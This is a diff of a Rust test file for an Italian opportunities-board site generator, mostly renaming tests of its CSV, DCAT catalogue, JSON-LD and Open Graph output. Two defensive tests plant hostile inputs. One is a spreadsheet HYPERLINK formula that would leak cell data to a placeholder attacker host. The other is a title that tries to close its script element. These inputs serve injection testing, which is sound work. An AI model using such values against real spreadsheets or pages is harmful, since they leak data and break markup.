@@ -1,13 +1,15 @@
-//! The data of the board for machines: the table, the catalogue, what pages say to search engines.
+//! Public data: the table, the catalogue, JSON-LD and Open Graph of pages.
 
 use std::collections::{BTreeMap, BTreeSet};
 
 use serde_json::Value as Json;
 
-use crate::support::{ADDRESS, Tree, all_kinds, bacheca, none, small_board, small_site, tree};
+use crate::support::{
+    ADDRESS, Tree, assert_no_problems, bacheca, read_tree, site_of_all_kinds, small_board, small_site,
+};
 
-/// A table by its columns: each row a map.
-fn rows(bytes: &[u8]) -> Vec<BTreeMap<String, String>> {
+/// Rows of a CSV file, each a map by column.
+fn csv_rows(bytes: &[u8]) -> Vec<BTreeMap<String, String>> {
     let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a spreadsheet wants the byte order mark");
     let mut reader = csv::Reader::from_reader(text);
     let names = reader.headers().unwrap().clone();
@@ -16,11 +18,11 @@ fn rows(bytes: &[u8]) -> Vec<BTreeMap<String, String>> {
 }
 
 #[test]
-fn the_table_has_the_items_of_the_data() {
-    let site = tree(small_site());
+fn csv_has_the_items_of_the_json() {
+    let site = read_tree(small_site());
     let data: Json = serde_json::from_slice(&site["dati/opportunita.json"]).unwrap();
     let items: Vec<&Json> = data["opportunita"].as_array().unwrap().iter().collect();
-    let rows = rows(&site["dati/opportunita.csv"]);
+    let rows = csv_rows(&site["dati/opportunita.csv"]);
     let slugs = |names: Vec<&str>| names.into_iter().map(str::to_owned).collect::<Vec<_>>();
     assert_eq!(
         slugs(rows.iter().map(|row| row["slug"].as_str()).collect()),
@@ -37,23 +39,23 @@ fn the_table_has_the_items_of_the_data() {
 }
 
 #[test]
-fn no_cell_of_the_table_is_a_formula() {
+fn csv_cell_is_never_a_formula() {
     let board = small_board();
     let file = board.path().join("content/opportunita/2026/sportello-diritti.md");
     let text = std::fs::read_to_string(&file).unwrap();
     let title = "'=HYPERLINK(\"https://evil.example.org/?\"&A1, \"Sportello\")'";
     std::fs::write(&file, text.replace("titolo: Sportello diritti", &format!("titolo: {title}"))).unwrap();
-    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).ends(0);
+    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).expect_code(0);
     let bytes = std::fs::read(board.path().join("public/dati/opportunita.csv")).unwrap();
-    let rows = rows(&bytes);
+    let rows = csv_rows(&bytes);
     assert!(rows.iter().any(|row| row["titolo"].starts_with("'=HYPERLINK(\"https")), "{rows:?}");
     let cells = rows.iter().flat_map(|row| row.values());
-    none(cells.filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).cloned().collect());
+    assert_no_problems(cells.filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).cloned().collect());
 }
 
 #[test]
-fn the_catalogue_says_what_dcat_ap_it_asks_for() {
-    let site = tree(small_site());
+fn catalogue_has_fields_required_by_dcat_ap_it() {
+    let site = read_tree(small_site());
     let catalogue: Json = serde_json::from_slice(&site["dati/catalogo.jsonld"]).unwrap();
     let dataset = &catalogue["dcat:dataset"][0];
     let wanted = [
@@ -74,7 +76,7 @@ fn the_catalogue_says_what_dcat_ap_it_asks_for() {
         ),
     ];
     for (thing, properties) in wanted {
-        none(properties.into_iter().filter(|name| thing[*name].is_null()).map(str::to_owned).collect());
+        assert_no_problems(properties.into_iter().filter(|name| thing[*name].is_null()).map(str::to_owned).collect());
     }
     let files = dataset["dcat:distribution"].as_array().unwrap();
     assert_eq!(files.len(), 2);
@@ -87,8 +89,8 @@ fn the_catalogue_says_what_dcat_ap_it_asks_for() {
     }
 }
 
-/// What a page says to machines, if anything.
-fn said(site: &Tree, slug: &str) -> Option<Json> {
+/// JSON-LD of an item's page, if any.
+fn json_ld(site: &Tree, slug: &str) -> Option<Json> {
     let page = String::from_utf8_lossy(&site[&format!("o/{slug}/index.html")]).into_owned();
     let data = page.split("<script type=\"application/ld+json\">").nth(1)?;
     Some(
@@ -97,9 +99,9 @@ fn said(site: &Tree, slug: &str) -> Option<Json> {
 }
 
 #[test]
-fn each_kind_says_what_search_engines_ask_for() {
+fn json_ld_has_required_properties_for_each_kind() {
     let organisation = "Associazione Il Ponte";
-    // An item, and for each place in its data what stands there; `*` is anything.
+    // An item, and the expected value at each pointer in its JSON-LD; `*` is any value.
     let table: &[(&str, &[(&str, &str)])] = &[
         (
             "aiuto-cuoco-mensa",
@@ -109,7 +111,7 @@ fn each_kind_says_what_search_engines_ask_for() {
                 ("/title", "Aiuto cuoco o cuoca nella mensa della scuola"),
                 ("/description", "*"),
                 ("/datePosted", "2026-11-18"),
-                // The last day is included: the midnight after it.
+                // The last day is included, so the value is the midnight after it.
                 ("/validThrough", "2026-12-01T00:00:00+01:00"),
                 ("/employmentType/0", "PART_TIME"),
                 ("/employmentType/1", "TEMPORARY"),
@@ -183,48 +185,48 @@ fn each_kind_says_what_search_engines_ask_for() {
     ];
     let mut problems = Vec::new();
     for (slug, properties) in table {
-        let data = said(all_kinds(), slug).unwrap_or_else(|| panic!("{slug} says nothing"));
+        let data = json_ld(site_of_all_kinds(), slug).unwrap_or_else(|| panic!("{slug} says nothing"));
         for (place, wanted) in *properties {
             let found = data.pointer(place);
             let fits = found.is_some_and(|found| *wanted == "*" || found == *wanted);
             problems.extend((!fits).then(|| format!("{slug}{place}: {found:?}, not {wanted}")));
         }
     }
-    none(problems);
+    assert_no_problems(problems);
 }
 
 #[test]
-fn machines_are_told_of_no_example_and_of_no_job_that_is_over() {
-    let site = tree(small_site());
-    assert_eq!(said(&site, "italiano-a2"), None);
-    assert!(said(&site, "porte-aperte").is_some());
+fn json_ld_is_absent_for_examples_and_closed_jobs() {
+    let site = read_tree(small_site());
+    assert_eq!(json_ld(&site, "italiano-a2"), None);
+    assert!(json_ld(&site, "porte-aperte").is_some());
     let board = small_board();
     let root = board.path().to_str().unwrap();
     let skip = ["build", "--skip", "poster,card,print,search"];
-    crate::support::run(&[&["--root", root, "--today", "2026-12-01"], skip.as_slice()].concat()).ends(0);
-    assert_eq!(said(&tree(&board.path().join("public")), "aiuto-cuoco-mensa"), None);
-    // What search engines do not list says nothing either.
+    crate::support::run_program(&[&["--root", root, "--today", "2026-12-01"], skip.as_slice()].concat()).expect_code(0);
+    assert_eq!(json_ld(&read_tree(&board.path().join("public")), "aiuto-cuoco-mensa"), None);
+    // Pages that search engines do not list have no JSON-LD.
     let untranslated = String::from_utf8_lossy(&site["en/o/aiuto-cuoco-mensa/index.html"]).into_owned();
     assert!(!untranslated.contains("ld+json"));
 }
 
 #[test]
-fn no_text_ends_the_script_that_holds_it() {
+fn json_ld_text_cannot_close_its_script_element() {
     let board = small_board();
     let file = board.path().join("content/opportunita/2026/sportello-diritti.md");
     let text = std::fs::read_to_string(&file).unwrap();
     let title = "\"Sportello </script><!-- & <b>diritti\"";
     std::fs::write(&file, text.replace("titolo: Sportello diritti", &format!("titolo: {title}"))).unwrap();
-    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).ends(0);
-    let site = tree(&board.path().join("public"));
-    assert_eq!(said(&site, "sportello-diritti").unwrap()["name"], "Sportello </script><!-- & <b>diritti");
+    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).expect_code(0);
+    let site = read_tree(&board.path().join("public"));
+    assert_eq!(json_ld(&site, "sportello-diritti").unwrap()["name"], "Sportello </script><!-- & <b>diritti");
     let page = String::from_utf8_lossy(&site["o/sportello-diritti/index.html"]).into_owned();
     assert_eq!(page.matches("</script>").count(), page.matches("<script").count());
 }
 
 #[test]
-fn a_link_in_a_chat_is_whole() {
-    let site = tree(small_site());
+fn open_graph_tags_are_complete() {
+    let site = read_tree(small_site());
     let page = |path: &str| String::from_utf8_lossy(&site[path]).into_owned();
     let tags = |page: &str| -> BTreeSet<String> {
         page.split("<meta property=\"").skip(1).filter_map(|tag| Some(tag.split('>').next()?.to_owned())).collect()
